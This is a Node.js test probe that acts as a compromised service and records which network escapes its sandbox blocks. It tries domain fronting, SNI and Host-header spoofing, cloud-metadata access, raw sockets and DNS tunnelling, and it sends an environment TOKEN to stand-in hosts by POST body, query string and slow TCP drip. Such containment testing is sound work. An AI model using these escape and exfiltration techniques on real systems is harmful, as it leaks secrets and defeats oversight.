// A service that was taken over: tries every way out of its namespace and prints what came of each as one JSON line.
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { createServer, request } from 'node:http';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const { HOST_PORT, TOKEN } = process.env;

const http = (host, { port = 80, as = host, method = 'GET', path = '/', headers = {}, body = '' } = {}) =>
  new Promise((resolve) => {
    const outgoing = request({ host, port, method, path, agent: false, headers: { host: as, ...headers } }, (response) => {
      response
        .resume()
        .on('end', () => resolve(response.statusCode))
        .on('error', (error) => resolve(error.code));
    });
    outgoing
      .on('error', (error) => resolve(error.code ?? error.message))
      .setTimeout(3000, () => outgoing.destroy(new Error('timeout')));
    outgoing.end(body);
  });
const tcp = (host, port, pieces = [], everyMs = 0) =>
  new Promise((resolve) => {
    let got = '';
    const socket = connect({ host, port, timeout: 3000 }, async () => {
      for (const piece of pieces) {
        if (socket.destroyed) return;
        socket.write(piece);
        if (everyMs > 0) await new Promise((go) => setTimeout(go, everyMs));
      }
    });
    socket.on('data', (data) => (got += data));
    socket.on('error', (error) => resolve(error.code)).on('close', () => resolve(got === '' ? 'closed' : `reached ${got}`));
    socket.on('timeout', () => socket.destroy());
  });
const tls = (host, servername) =>
  new Promise((resolve) => {
    const socket = connectTls({ host, port: 443, servername, rejectUnauthorized: false, timeout: 3000 }, () => {
      resolve('reached');
      socket.destroy();
    });
    socket.on('error', (error) => resolve(error.code ?? error.message)).on('timeout', () => socket.destroy(new Error('timeout')));
  });
const udp = (ip, port) =>
  new Promise((resolve) => {
    const socket = createSocket('udp4')
      .on('error', (error) => resolve(error.code))
      .on('message', () => resolve('answered'));
    socket.connect(port, ip, (error) => {
      if (error) return resolve(error.code);
      socket.send('x', (failed) => (failed ? resolve(failed.code) : setTimeout(() => (resolve('silence'), socket.close()), 300)));
    });
  });
/** One look-up past the system's resolver, of any record type. */
const ask = (name, type) =>
  new Promise((resolve) => {
    const socket = createSocket('udp4').on('message', (answer) => (resolve(answer[3] & 15), socket.close()));
    const labels = name.split('.').flatMap((label) => [Buffer.from([label.length]), Buffer.from(label)]);
    const query = Buffer.concat([Buffer.from('beef01000001000000000000', 'hex'), ...labels, Buffer.from([0, 0, type, 0, 1])]);
    socket.send(query, 53, '127.0.0.53');
    setTimeout(() => resolve('silence'), 2000).unref();
  });
const name = (host) =>
  lookup(host).then(
    ({ address }) => address,
    (error) => error.code,
  );
const perl = (code) => {
  const { status, stdout } = spawnSync('perl', ['-e', code], { encoding: 'utf8' });
  return stdout || `status ${status}`;
};

const seen = {};
seen.allowed = await http('api.outside.test');
seen.originated = await http('secure.outside.test');
seen.fronted = await http('secure.outside.test', { as: 'hidden.outside.test' });
seen.hostHeader = await http('api.outside.test', { as: 'evil.test' });
seen.otherPort = await http('api.outside.test', { port: 8081 });
seen.sni = await tls('tls.outside.test', 'tls.outside.test');
seen.otherSni = await tls('tls.outside.test', 'evil.test');
seen.noSni = await tls('tls.outside.test', '');
seen.unknown = await name('evil.test');
seen.wildcard = await name('x.wild.test');
seen.address = await tcp('203.0.113.7', 5432, ['hello']);
seen.otherAddress = await tcp('203.0.113.8', 5432, ['hello']);
seen.internet = await tcp('1.1.1.1', 443);
seen.metadata = await tcp('169.254.169.254', 80);
seen.hostLoopback = await tcp('127.0.0.1', Number(HOST_PORT));
seen.ipv6 = await tcp('2606:4700:4700::1111', 443);
seen.udp = await udp('8.8.8.8', 53);
seen.udpStandIn = await udp('240.240.1.1', 53);
seen.raw = perl('use Socket; print socket(my $s, AF_INET, SOCK_RAW, 1) ? "open" : "refused"');
seen.packet = perl('print socket(my $s, 17, 3, 0x300) ? "open" : "refused"');
seen.tunnel = await Promise.all(
  Array.from({ length: 30 }, (_, i) => ask(`${randomBytes(20).toString('hex')}.${i}.tunnel.test`, i % 2 === 0 ? 16 : 1)),
).then((codes) => [...new Set(codes)]);
seen.body = await http('api.outside.test', { method: 'POST', body: `{"k":"${TOKEN}"}` });
seen.query = await http('api.outside.test', { path: `/?k=${TOKEN}` });
seen.drip = await tcp('203.0.113.7', 5432, ` ${TOKEN} `.split(''), 10);
seen.many = [];
for (let i = 0; i < 8; i++) seen.many.push(await http(`h${i}.wild.test`));
seen.upload = await http('api.outside.test', { method: 'POST', body: Buffer.alloc(300_000, 'x') });
console.log(`SEEN ${JSON.stringify(seen)}`);
createServer((_, response) => response.end('{}')).listen(Number(process.env.PORT));
